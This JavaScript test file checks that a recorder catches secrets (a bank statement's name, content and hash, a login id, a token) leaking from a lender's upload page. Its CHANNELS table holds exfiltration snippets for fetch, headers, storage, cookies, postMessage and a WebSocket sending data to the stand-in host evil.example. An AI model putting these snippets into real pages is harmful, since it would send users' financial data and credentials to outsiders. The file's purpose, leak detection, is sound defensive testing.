// The recorder that every journey runs under: each kind of secret is seen in each channel, or its silence says nothing.
import { CONNECT, expect, pdf, test } from '../lender.mjs';
import { MARKER, sha256 } from '../recorder.mjs';

const NAME = 'Relevé de mars 2026.pdf';
const LOGIN = '5e115eac-1209-4f19-641c-08d6d484e2fe';
const TOKEN = 'c4569c54-e167-4d34-8de6-52113bc95414';
const content = pdf(NAME).join('');

const SECRETS = {
  name: NAME,
  bytes: `… (${MARKER}) …`,
  hash: sha256(content),
  login: LOGIN,
  token: TOKEN,
};

/** What a page could do by mistake, or a script that came with it. */
const CHANNELS = {
  request: (text) => fetch(`/collect?q=${encodeURIComponent(text)}`).catch(() => {}),
  body: (text) => fetch('/collect', { method: 'POST', body: text }).catch(() => {}),
  header: (text) => fetch('/collect', { headers: { 'x-about': encodeURIComponent(text) } }).catch(() => {}),
  console: (text) => console.log(`got ${text}`),
  localStorage: (text) => localStorage.setItem('draft', text),
  sessionStorage: (text) => sessionStorage.setItem('draft', text),
  cookie: (text) => void (document.cookie = `draft=${encodeURIComponent(text)}`),
  history: (text) => history.replaceState({ text }, ''),
  postMessage: (text) => document.querySelector('flinks-upload').shadowRoot.querySelector('iframe').contentWindow.postMessage({ text }, '*'),
  BroadcastChannel: (text) => new BroadcastChannel('draft').postMessage({ text }),
  WebSocket: (text) => void new WebSocket(`wss://evil.example/?q=${encodeURIComponent(text)}`),
  IndexedDB: (text) =>
    new Promise((resolve) => {
      const opening = indexedDB.open('draft');
      opening.onupgradeneeded = () => opening.result.createObjectStore('files', { autoIncrement: true });
      opening.onsuccess = () => {
        const change = opening.result.transaction('files', 'readwrite');
        change.objectStore('files').add({ file: new File([text], 'x') });
        change.oncomplete = () => resolve(opening.result.close());
      };
    }),
  Cache: async (text) => (await caches.open('draft')).put('/draft', new Response(text)),
};

/** A journey in which there is one of each secret. */
async function journey(lender) {
  await lender.open({ instance: 'toolbox', 'authorize-token': TOKEN }, { policy: '' });
  await lender.collect();
  await lender.element.evaluate((element, [name, text]) => element.addFiles([new File([text], name)]), [NAME, content]);
  await lender.checked(1);
}

test('a journey to its end leaks nothing, and the recorder heard it', async ({ lender, recorder }) => {
  await journey(lender);
  await lender.part('continue').click();
  await expect(lender.part('checklist')).toBeVisible();
  expect(await lender.frameAddress()).toContain(TOKEN);
  await lender.say({ step: 'REDIRECT', loginId: LOGIN });
  expect(await recorder.leaks()).toEqual([]);
  expect(recorder.heard).toBeGreaterThan(20);
});

for (const [channel, leak] of Object.entries(CHANNELS)) {
  test(`whatever leaks through ${channel} is seen`, async ({ lender, recorder }) => {
    await journey(lender);
    await lender.page.route('**/collect**', (route) => route.fulfill({ body: '' }));
    await lender.part('retry').click();
    await lender.connect();
    // The end, so that there is a login id to leak; the frame is gone then, so it is leaked to first.
    const frame = lender.page.frames().find((one) => one.url().startsWith(CONNECT));
    if (channel !== 'postMessage') await lender.say({ step: 'REDIRECT', loginId: LOGIN });
    else await lender.say({ step: 'COMPONENT_LOAD_MFA', loginId: LOGIN });
    expect(frame).toBeTruthy();
    for (const [kind, secret] of Object.entries(SECRETS)) {
      await lender.page.evaluate(leak, secret);
      await expect.poll(() => recorder.leaks(), kind).toContain(`${channel}: ${kind}`);
    }
    await lender.page.evaluate(async () => {
      localStorage.clear();
      sessionStorage.clear();
      document.cookie = 'draft=; max-age=0';
      history.replaceState(null, '', '/');
      await caches.delete('draft');
      await new Promise((resolve) => (indexedDB.deleteDatabase('draft').onsuccess = resolve));
    });
    lender.violations.length = 0;
    lender.pageErrors.length = 0;
    recorder.forget();
  });
}

test('Base64, hexadecimal and percent signs hide nothing', async ({ lender, recorder }) => {
  await journey(lender);
  const around = Buffer.from(`{"about":"${MARKER}"}`);
  for (const text of [around.toString('base64'), around.toString('hex'), encodeURIComponent(around), Buffer.from(SECRETS.hash, 'hex').toString('base64')]) {
    await lender.page.evaluate((line) => console.log(line), text);
    await expect.poll(() => recorder.leaks()).not.toEqual([]);
    recorder.forget();
  }
});
